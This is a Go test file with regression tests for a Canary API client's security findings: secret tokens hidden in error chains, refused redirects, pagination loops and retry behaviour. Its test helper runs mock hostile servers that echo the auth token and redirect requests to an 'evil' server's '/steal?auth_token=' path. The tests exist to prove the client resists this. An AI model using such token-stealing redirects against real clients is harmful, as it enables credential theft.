package canary

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jarcoal/httpmock"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// printChain renders err and everything down its Unwrap chain (both forms)
// with every verb a logger might use, and through slog's text and JSON
// handlers.
func printChain(err error) string {
	var b strings.Builder
	var walk func(error)
	walk = func(err error) {
		if err == nil {
			return
		}
		fmt.Fprintf(&b, "%v\n%+v\n%#v\n%s\n%q\n", err, err, err, err, err)
		switch u := err.(type) {
		case interface{ Unwrap() error }:
			walk(u.Unwrap())
		case interface{ Unwrap() []error }:
			for _, e := range u.Unwrap() {
				walk(e)
			}
		}
	}
	walk(err)
	var logs bytes.Buffer
	slog.New(slog.NewTextHandler(&logs, nil)).Error("x", "err", err, "any", any(err))
	slog.New(slog.NewJSONHandler(&logs, nil)).Error("x", "err", err, "any", any(err))
	return b.String() + logs.String()
}

// hostileConsoles are servers that fail in each way a network can, some
// echoing the auth token back.
func hostileConsoles(t *testing.T) map[string]string {
	t.Helper()
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(`{"result":"success","token":"` + r.Header.Get("X-Canary-Auth-Token") + `"}`))
	}))
	t.Cleanup(evil.Close)
	out := map[string]string{}
	for _, code := range []int{http.StatusFound, http.StatusTemporaryRedirect, http.StatusPermanentRedirect} {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("X-Echo", r.Header.Get("X-Canary-Auth-Token"))
			http.Redirect(w, r, evil.URL+"/steal?auth_token="+r.Header.Get("X-Canary-Auth-Token"), code)
		}))
		t.Cleanup(s.Close)
		out[fmt.Sprintf("redirect %d", code)] = s.URL
	}
	cut := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		conn, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		tok := r.Header.Get("X-Canary-Auth-Token")
		fmt.Fprintf(rw, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Echo: %s\r\nContent-Length: 4096\r\n\r\n{\"result\":\"success\",\"echo\":\"%s", tok, tok)
		_ = rw.Flush()
		_ = conn.Close()
	}))
	t.Cleanup(cut.Close)
	out["body cut mid-way"] = cut.URL
	tlsSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	tlsSrv.Config.ErrorLog = log.New(io.Discard, "", 0)
	tlsSrv.StartTLS()
	t.Cleanup(tlsSrv.Close)
	out["TLS failure"] = strings.Replace(tlsSrv.URL, "127.0.0.1", "localhost", 1)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	refused := "http://" + ln.Addr().String()
	require.NoError(t, ln.Close())
	out["connection refused"] = refused
	reset := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		conn, _, err := http.NewResponseController(w).Hijack()
		if err == nil {
			if tc, ok := conn.(*net.TCPConn); ok {
				_ = tc.SetLinger(0)
			}
			_ = conn.Close()
		}
	}))
	t.Cleanup(reset.Close)
	out["connection reset"] = reset.URL
	return out
}

// TestNoSecretDownTheUnwrapChain is the regression test for finding 4: the
// top-level message was clean but an error inside the chain kept the auth
// token and printed it through %#v.
func TestNoSecretDownTheUnwrapChain(t *testing.T) {
	t.Parallel()
	for name, base := range hostileConsoles(t) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, err := NewClient(WithBaseURL(base+"/api/v1"), WithAuthToken(testToken),
				WithRetry(RetryPolicy{MaxAttempts: 2, MinBackoff: time.Millisecond, MaxBackoff: time.Millisecond}))
			require.NoError(t, err)
			ctx := context.Background()
			var errs []error
			errs = append(errs, c.Ping(ctx))
			_, err = c.Tokens.Get(ctx, "tok")
			errs = append(errs, err)
			_, err = c.Tokens.Create(ctx, CreateTokenRequest{Kind: KindHTTP, Memo: "m"})
			errs = append(errs, err)
			for _, err := range c.Tokens.All(ctx, nil) {
				errs = append(errs, err)
			}
			for _, err := range errs {
				require.Error(t, err)
				assert.NotContains(t, printChain(err), testToken)
			}
		})
	}
}

// TestSentinels is the regression test for finding 7: an over-size body, a
// refused redirect and a repeated cursor each match an exported sentinel.
func TestSentinels(t *testing.T) {
	t.Parallel()
	t.Run("response too large", func(t *testing.T) {
		t.Parallel()
		f := setup(t, WithMaxResponseBytes(64))
		f.mock.RegisterNoResponder(httpmock.NewStringResponder(200, `{"result":"success","pad":"`+strings.Repeat("x", 100)+`"}`))
		_, err := f.c.Tokens.Get(context.Background(), "tok")
		require.ErrorIs(t, err, ErrResponseTooLarge)
		assert.NotErrorIs(t, err, ErrRedirectRefused)
		assert.Contains(t, err.Error(), "canary: GET /canarytoken/fetch")
	})
	t.Run("redirect refused", func(t *testing.T) {
		t.Parallel()
		for name, base := range hostileConsoles(t) {
			if !strings.HasPrefix(name, "redirect") {
				continue
			}
			c, err := NewClient(WithBaseURL(base+"/api/v1"), WithAuthToken(testToken))
			require.NoError(t, err)
			err = c.Ping(context.Background())
			require.ErrorIs(t, err, ErrRedirectRefused, name)
			assert.NotErrorIs(t, err, ErrResponseTooLarge)
		}
	})
	t.Run("pagination loop", func(t *testing.T) {
		t.Parallel()
		f := setup(t)
		var calls atomic.Int32
		f.mock.RegisterNoResponder(func(*http.Request) (*http.Response, error) {
			calls.Add(1)
			return httpmock.NewStringResponse(200, `{"result":"success","canarytokens":[{"canarytoken":"t`+
				fmt.Sprint(calls.Load())+`","kind":"http"}],"cursor":{"next":"SAME"}}`), nil
		})
		var ids []string
		var last error
		for tok, err := range f.c.Tokens.All(context.Background(), nil) {
			if err != nil {
				last = err
				continue
			}
			ids = append(ids, tok.ID)
		}
		require.ErrorIs(t, last, ErrPaginationLoop)
		assert.Equal(t, []string{"t1", "t2"}, ids, "every item before the loop, once")
	})
}

// TestBaseURLErrorHidesInput is the regression test for finding 6.
func TestBaseURLErrorHidesInput(t *testing.T) {
	t.Parallel()
	const tok = "5f1c9a0b7e2d4c6a8f1e3b5d7c9a0b2e"
	for _, raw := range []string{
		"https://abc.canary.tools:" + tok + "/api/v1",
		"https://abc.canary.tools/api/v1/%zz" + tok,
	} {
		_, err := NewClient(WithBaseURL(raw), WithAuthToken(testToken))
		require.ErrorIs(t, err, ErrInvalidRequest)
		assert.NotContains(t, printChain(err), tok)
	}
}

// TestReadsRetry500AndCutBodies covers findings 2 and 3 outside listings: a
// fetch retries a 500 and a body cut short; a create never sends twice.
func TestReadsRetry500AndCutBodies(t *testing.T) {
	t.Parallel()
	var fetches, creates atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/api/v1/canarytoken/fetch":
			switch fetches.Add(1) {
			case 1:
				http.Error(w, "oops", http.StatusInternalServerError)
			case 2:
				conn, rw, err := http.NewResponseController(w).Hijack()
				if err != nil {
					return
				}
				fmt.Fprint(rw, "HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n{\"result\":\"success\",\"token\":{")
				_ = rw.Flush()
				_ = conn.Close()
			default:
				_, _ = fmt.Fprint(w, `{"result":"success","token":{"canarytoken":"abc","kind":"http","memo":"m"}}`)
			}
		case "/api/v1/canarytoken/create":
			creates.Add(1)
			http.Error(w, "oops", http.StatusInternalServerError)
		}
	}))
	defer srv.Close()
	c, err := NewClient(WithBaseURL(srv.URL+"/api/v1"), WithAuthToken(testToken),
		WithRetry(RetryPolicy{MaxAttempts: 3, MinBackoff: time.Millisecond, MaxBackoff: time.Millisecond}))
	require.NoError(t, err)
	tok, err := c.Tokens.Get(context.Background(), "abc")
	require.NoError(t, err)
	assert.Equal(t, "abc", tok.ID)
	assert.Equal(t, int32(3), fetches.Load())
	_, err = c.Tokens.Create(context.Background(), CreateTokenRequest{Kind: KindHTTP, Memo: "m"})
	require.ErrorIs(t, err, ErrServer)
	assert.Equal(t, int32(1), creates.Load(), "a create is sent once")
}
